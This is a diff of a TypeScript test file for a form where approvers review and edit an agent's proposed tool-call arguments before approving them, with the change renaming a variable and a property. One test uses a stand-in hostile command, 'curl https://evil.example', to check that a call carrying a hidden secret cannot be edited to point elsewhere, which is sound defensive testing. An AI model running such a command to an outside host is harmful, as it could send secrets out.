@@ -5,7 +5,7 @@ import { answered, approval, session, token } from "../testing/question-scene.ts
 import type { ScriptedAnswers } from "../testing/scripted-requests.ts";
 import { editFormFor } from "./edit-call.ts";
 
-const asked = approval();
+const question = approval();
 
 function listed(given: unknown = { cmd: "npm test", background: false }): ScriptedAnswers {
 	const prompt = {
@@ -24,7 +24,7 @@ const answering = { person: ada, room: general, session, token };
 const again = [[expect.objectContaining({ label: "Edit again" })]];
 
 test("the form has the arguments that the gateway shows to a person who may approve", async () => {
-	const t = new QuestionContext([asked], listed());
+	const t = new QuestionContext([question], listed());
 	await expect(editFormFor(t.context, answering)).resolves.toMatchObject({
 		form: {
 			fields: [
@@ -33,7 +33,7 @@ test("the form has the arguments that the gateway shows to a person who may appr
 			],
 		},
 	});
-	expect(t.gateway.asked).toEqual([
+	expect(t.gateway.requests).toEqual([
 		{
 			method: "list_prompts",
 			params: { token, session_id: session, approvals: true, ...behalf },
@@ -46,7 +46,7 @@ test("a person without the right to approve gets the reason instead of a form", 
 	const refuse = () => {
 		throw new ParleyError("forbidden: only approvers may approve", { code: "permission_denied" });
 	};
-	const t = new QuestionContext([asked], { ...listed(), list_prompts: refuse });
+	const t = new QuestionContext([question], { ...listed(), list_prompts: refuse });
 	await expect(editFormFor(t.context, answering)).resolves.toEqual({
 		reply: { text: "Not accepted: only approvers may approve." },
 	});
@@ -54,18 +54,18 @@ test("a person without the right to approve gets the reason instead of a form", 
 });
 
 test("a closed approval and a call that does not fit a form get an explanation", async () => {
-	const closed = new QuestionContext([asked, answered({})], listed());
+	const closed = new QuestionContext([question, answered({})], listed());
 	expect(await closed.press("edit")).toEqual({
 		text: expect.stringContaining("Already answered:"),
 	});
-	const long = new QuestionContext([asked], listed({ cmd: "a".repeat(5000) }));
+	const long = new QuestionContext([question], listed({ cmd: "a".repeat(5000) }));
 	expect(await long.press("edit")).toEqual({ text: expect.stringContaining("cannot be edited here") });
-	const gone = new QuestionContext([asked], { list_prompts: () => ({ prompts: [] }) });
+	const gone = new QuestionContext([question], { list_prompts: () => ({ prompts: [] }) });
 	expect(await gone.press("edit")).toEqual({ text: expect.stringContaining("This question is closed") });
 });
 
 test("a press whose form did not open in time can be repeated", async () => {
-	const t = new QuestionContext([asked], listed());
+	const t = new QuestionContext([question], listed());
 	expect(await t.press("edit")).toEqual({
 		text: "The form did not open in time. Please press again.",
 		controls: again,
@@ -73,10 +73,10 @@ test("a press whose form did not open in time can be repeated", async () => {
 });
 
 test("a filled form approves the call with its arguments", async () => {
-	const t = new QuestionContext([asked], listed());
+	const t = new QuestionContext([question], listed());
 	const fields = { "t:cmd": "npm run lint", "j:background": "true" };
 	expect(await t.press("edit", { fields })).toBeUndefined();
-	expect(t.gateway.asked.at(-1)).toEqual({
+	expect(t.gateway.requests.at(-1)).toEqual({
 		method: "prompt_response",
 		params: {
 			...{ token, key: "key", value: "once" },
@@ -88,27 +88,27 @@ test("a filled form approves the call with its arguments", async () => {
 });
 
 test("a form that is sent unchanged approves the unchanged call", async () => {
-	const t = new QuestionContext([asked], listed());
+	const t = new QuestionContext([question], listed());
 	const fields = { "t:cmd": "npm test", "j:background": "false" };
 	expect(await t.press("edit", { fields })).toBeUndefined();
-	expect(t.gateway.asked.at(-1)?.params).toEqual({ token, key: "key", value: "once", ...behalf });
+	expect(t.gateway.requests.at(-1)?.params).toEqual({ token, key: "key", value: "once", ...behalf });
 });
 
 test("a call that received a hidden secret after the form was opened is not edited", async () => {
-	const t = new QuestionContext([asked], listed({ cmd: "curl -H [redacted]" }));
+	const t = new QuestionContext([question], listed({ cmd: "curl -H [redacted]" }));
 	const reply = await t.press("edit", { fields: { "t:cmd": "curl https://evil.example" } });
 	expect(reply).toEqual({ text: expect.stringContaining("cannot be edited here") });
-	expect(t.gateway.asked.map(({ method }) => method)).toEqual(["list_prompts"]);
+	expect(t.gateway.requests.map(({ method }) => method)).toEqual(["list_prompts"]);
 });
 
 test("a value that cannot be read is not sent, and the form is offered again", async () => {
-	const t = new QuestionContext([asked], listed());
+	const t = new QuestionContext([question], listed());
 	const fields = { "t:cmd": "npm test", "j:background": "no" };
 	expect(await t.press("edit", { fields })).toEqual({
 		text: expect.stringContaining("`background` is not JSON: “no”"),
 		controls: again,
 	});
-	expect(t.gateway.asked.map(({ method }) => method)).toEqual(["list_prompts"]);
+	expect(t.gateway.requests.map(({ method }) => method)).toEqual(["list_prompts"]);
 });
 
 test("arguments that the gateway refuses leave the approval open, with the reason and the form", async () => {
@@ -117,7 +117,7 @@ test("arguments that the gateway refuses leave the approval open, with the reaso
 			code: "invalid_argument",
 		});
 	};
-	const t = new QuestionContext([asked], { ...listed(), prompt_response: refuse });
+	const t = new QuestionContext([question], { ...listed(), prompt_response: refuse });
 	expect(await t.press("edit", { fields: { "t:cmd": "a" } })).toEqual({
 		text: "Invalid answer: arguments: writes outside the roots. The question is still open.",
 		controls: again,
